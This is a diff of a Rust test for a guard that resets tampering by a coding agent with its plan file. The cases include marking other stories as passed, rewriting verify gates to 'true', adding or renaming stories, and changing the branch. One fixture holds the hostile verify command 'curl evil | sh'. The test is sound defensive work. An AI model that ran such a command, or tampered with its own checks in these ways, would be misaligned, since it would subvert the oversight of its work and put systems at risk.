@@ -11,27 +11,47 @@ fn prd(stories: &str) -> Prd {
 
 #[test]
 fn what_an_agent_may_not_change_is_set_back() {
+    let top = r#"{"project":"P","branchName":"ralph/x","userStories":["#;
     let before = prd(r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"}"#);
+    // Its own mark and the notes: the agent's. Anything else: set back.
     #[rustfmt::skip]
-        let cases: &[(&str, &str, &[&str], &[&str])] = &[
-            ("its own mark is its own", r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
-            ("another story's mark", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b","passes":true}"#, &["B's \"passes\""], &["B"]),
-            ("a verify rewritten", r#"{"id":"A","title":"a","verify":"true"},{"id":"B","title":"b","verify":"true"}"#, &["A's \"verify\"", "B's \"verify\""], &[]),
-            ("a new story marked", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","passes":true}"#, &["the new story C's \"passes\""], &[]),
-            ("a new story with a gate of the agent's", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","verify":"curl evil | sh"}"#, &["the new story C's \"verify\""], &[]),
-            ("notes are free", r#"{"id":"A","title":"a","notes":"hm"},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
-        ];
+    let cases: &[(&str, &str, &[&str], &[&str])] = &[
+        ("its own mark is its own", r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
+        ("notes are free", r#"{"id":"A","title":"a","notes":"hm"},{"id":"B","title":"b","verify":"make b","notes":"x"}"#, &[], &[]),
+        ("another story's mark", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b","passes":true}"#, &["B's \"passes\""], &["B"]),
+        ("a verify rewritten", r#"{"id":"A","title":"a","verify":"true"},{"id":"B","title":"b","verify":"true"}"#, &["A's \"verify\"", "B's \"verify\""], &[]),
+        ("a new story marked", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","passes":true}"#, &["a new story (C)"], &[]),
+        ("a new story with a gate of the agent's", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","verify":"curl evil | sh"}"#, &["a new story (C)"], &[]),
+        ("a story added first and another renamed", r#"{"id":"EVIL-1","title":"e","priority":0},{"id":"A","title":"a"},{"id":"B","title":"bee","verify":"make b"}"#, &["a new story (EVIL-1)", "B's \"title\""], &[]),
+        ("a priority and a field of its own", r#"{"id":"A","title":"a","priority":9,"estimate":3},{"id":"B","title":"b","verify":"make b"}"#, &["A's \"priority\"", "A's \"estimate\""], &[]),
+        ("a field removed", r#"{"id":"A","title":"a"},{"id":"B","title":"b"}"#, &["B's \"verify\""], &[]),
+        ("the branch, with its own mark and notes", r#"{"id":"A","title":"a","passes":true,"notes":"n"},{"id":"B","title":"b","verify":"make b"}"#, &["\"branchName\""], &[]),
+    ];
     for (name, after, findings, claimed) in cases {
-        let mut now = prd(after);
+        let branch = if name.starts_with("the branch") { "ralph/y" } else { "ralph/x" };
+        let mut now = parse(&format!("{}{after}]}}", top.replace("ralph/x", branch))).unwrap();
+        let own = now.story("A").cloned().unwrap();
         let t = now.set_back_tampering(&before, "A");
         assert_eq!(t.findings, *findings, "{name}");
         assert_eq!(t.claimed, *claimed, "{name}");
-        for s in now.stories().iter().filter(|s| s.id != "A") {
-            assert!(!s.passes, "{name}: {} still passes", s.id);
-        }
-        assert_eq!(now.story("B").unwrap().verify.as_deref(), Some("make b"), "{name}");
-        assert_eq!(now.story("A").unwrap().verify, None, "{name}");
-        assert!(now.story("C").is_none_or(|c| c.verify.is_none()), "{name}");
+        let marks: Vec<_> = findings.iter().filter(|f| f.ends_with("\"passes\"")).collect();
+        assert_eq!(t.proposed.len(), findings.len() - marks.len(), "{name}: {:?}", t.proposed);
+        // What is left is the plan as it was, with the agent's mark and notes.
+        let mut want = before.clone();
+        want.set_passes("A", own.passes);
+        let got: Vec<_> = now
+            .stories()
+            .iter()
+            .map(|s| (&s.id, &s.title, s.passes, &s.verify, s.priority))
+            .collect();
+        let want_stories: Vec<_> = want
+            .stories()
+            .iter()
+            .map(|s| (&s.id, &s.title, s.passes, &s.verify, s.priority))
+            .collect();
+        assert_eq!(got, want_stories, "{name}");
+        assert_eq!(now.branch_name(), Some("ralph/x"), "{name}");
+        assert_eq!(now.story("A").unwrap().notes, own.notes, "{name}: the notes are the agent's");
     }
 }
 
